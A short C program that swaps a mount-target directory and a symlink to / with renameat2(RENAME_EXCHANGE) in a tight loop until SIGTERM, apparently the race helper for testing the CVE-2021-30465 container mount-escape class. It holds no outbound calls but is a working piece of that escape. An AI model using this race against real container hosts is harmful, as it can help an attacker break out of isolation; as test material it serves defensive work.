/* CVE-2021-30465 class: swap two names (a mount-target directory and a
 * symlink to /) with renameat2(RENAME_EXCHANGE) as fast as possible until
 * SIGTERM; then print how many exchanges succeeded. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
        (void)sig;
        stop = 1;
}

int main(int argc, char **argv)
{
        unsigned long long done = 0, failed = 0;

        if (argc != 3) {
                fprintf(stderr, "usage: exchange A B\n");
                return 2;
        }
        signal(SIGTERM, on_term);
        printf("ready\n");
        fflush(stdout);
        while (!stop) {
                if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
                        done++;
                else
                        failed++;
        }
        /* leave the directory under its own name */
        printf("exchanges %llu failed %llu\n", done, failed);
        return 0;
}
